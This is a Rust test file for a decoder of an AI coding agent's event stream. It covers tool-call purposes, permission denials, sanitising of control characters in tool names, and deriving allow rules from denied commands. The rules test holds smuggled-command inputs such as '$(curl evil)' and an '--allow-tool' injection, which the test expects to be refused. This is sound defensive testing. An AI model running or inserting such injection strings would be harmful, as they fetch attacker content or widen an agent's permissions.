use super::*;
use crate::adapter::event::ToolPurpose;
use crate::agent::AdapterKind;

fn events(line: &str) -> Vec<AgentEvent> {
    Decoder::new(None, SessionStart::New).decode(line)
}

#[test]
fn a_tool_call_says_what_it_is_for() {
    for (tool, input, purpose, what) in [
        (
            "Bash",
            r#"{"command":"cargo  test\n--all","description":"x"}"#,
            ToolPurpose::Work,
            "cargo test --all",
        ),
        ("Bash", r#"{"command":"ls -la"}"#, ToolPurpose::Inspect, "ls -la"),
        ("Bash", "{}", ToolPurpose::Inspect, ""),
        ("Edit", r#"{"file_path":"/a.rs","old_string":"x"}"#, ToolPurpose::Work, "/a.rs"),
        ("Read", r#"{"file_path":"/a.rs"}"#, ToolPurpose::Inspect, "/a.rs"),
        ("WebFetch", r#"{"url":"https://x","prompt":"y"}"#, ToolPurpose::Inspect, "https://x"),
        ("Agent", r#"{"description":"find it","prompt":"…"}"#, ToolPurpose::Arrange, "find it"),
        ("TodoWrite", r#"{"todos":[]}"#, ToolPurpose::Note, ""),
        ("mcp__github__create_issue", "{}", ToolPurpose::Work, ""),
        ("mcp__db__query", r#"{"query":"select 1"}"#, ToolPurpose::Inspect, "select 1"),
    ] {
        let line = format!(
            r#"{{"type":"assistant","message":{{"content":[{{"type":"tool_use","id":"t","name":"{tool}","input":{input}}}]}}}}"#
        );
        let call =
            ToolCall { id: "t".parse().ok(), tool: tool.into(), what: what.into(), purpose, subagent: false };
        assert_eq!(events(&line), [AgentEvent::ToolCalled(call)]);
    }
}

#[test]
fn a_denial_is_read_from_every_place_that_tells_it() {
    let id = |event: &AgentEvent| match event {
        AgentEvent::PermissionDenied(call) => call.id.clone(),
        _ => None,
    };
    for meta in [
        r#"{"id":"t","permission_decision":{"decision":"reject"}}"#,
        r#"{"id":"t","non_execution_kind":"user-rejected"}"#,
        r#"{"id":"t","non_execution_kind":"permission-rule"}"#,
    ] {
        let line = format!(
            r#"{{"type":"user","message":{{"content":[{{"tool_use_id":"t","is_error":true}}]}},"tool_result_meta":[{meta}]}}"#
        );
        assert_eq!(events(&line).last().and_then(id), "t".parse().ok(), "{meta}");
    }
    let accepted = r#"{"type":"user","message":{"content":[{"tool_use_id":"t"}]},
        "tool_result_meta":[{"id":"t","permission_decision":{"decision":"accept"},"non_execution_kind":"interrupted"}]}"#;
    assert_eq!(events(accepted), [AgentEvent::ToolEnded { id: "t".parse().unwrap(), failed: false }]);
}

#[test]
fn a_subagents_error_is_not_the_runs() {
    let line = r#"{"type":"assistant","error":"unknown","parent_tool_use_id":"t",
        "message":{"model":"<synthetic>","content":[{"type":"text","text":"API Error: 400"}]}}"#;
    assert_eq!(events(line), [AgentEvent::Alive]);
}

#[test]
fn a_rule_allows_little_more_than_what_was_denied_and_can_be_copied_into_a_shell() {
    for (tool, what, want) in [
        ("Bash", "cargo test --workspace", Some("Bash(cargo test:*)")),
        ("Bash", "make", Some("Bash(make)")),
        ("Bash", "npm -g i", Some("Bash(npm -g i)")),
        ("Bash", "rm '; curl evil'", None),
        ("Bash", "$(curl evil)", None),
        ("Bash", "", None),
        ("Write", "/etc/x", Some("Write")),
        ("mcp__github__create_issue", "", Some("mcp__github__create_issue")),
        ("x' --allow-tool 'Bash", "", None),
    ] {
        assert_eq!(
            AdapterKind::Claude.rules_for(tool, what).first().map(String::as_str),
            want,
            "{tool} {what}"
        );
    }
}

#[test]
fn strangers_names_come_in_one_line_that_a_terminal_shows_as_it_is() {
    let line = serde_json::json!({"type": "system", "subtype": "permission_denied", "tool_use_id": "t",
        "tool_name": "Bash'; x\u{1b}[2J\n[error] ok\u{2028}\u{202e}"});
    let events = events(&line.to_string());
    let [AgentEvent::PermissionDenied(call)] = events.as_slice() else { panic!("{events:?}") };
    assert_eq!(call.tool, "Bash'; x[2J [error] ok");
}

#[test]
fn a_record_over_several_lines_is_one() {
    let pretty = serde_json::to_string_pretty(&serde_json::json!([
        {"type": "keep_alive"}, {"type": "result", "subtype": "success", "result": "kept"}]))
    .unwrap();
    let mut decoder = Decoder::new(None, SessionStart::New);
    let events: Vec<AgentEvent> = pretty.lines().flat_map(|line| decoder.decode(line)).collect();
    assert!(
        matches!(events.last(), Some(AgentEvent::Result(result)) if result.text.as_deref() == Some("kept"))
    );
    assert_eq!(decoder.decode("{").len(), 1);
    // A line that does not continue like a record ends it, so that nothing is held back for ever.
    let rest = decoder.decode(r#"{"type":"keep_alive"}"#);
    assert_eq!(rest, [AgentEvent::Alive]);
}
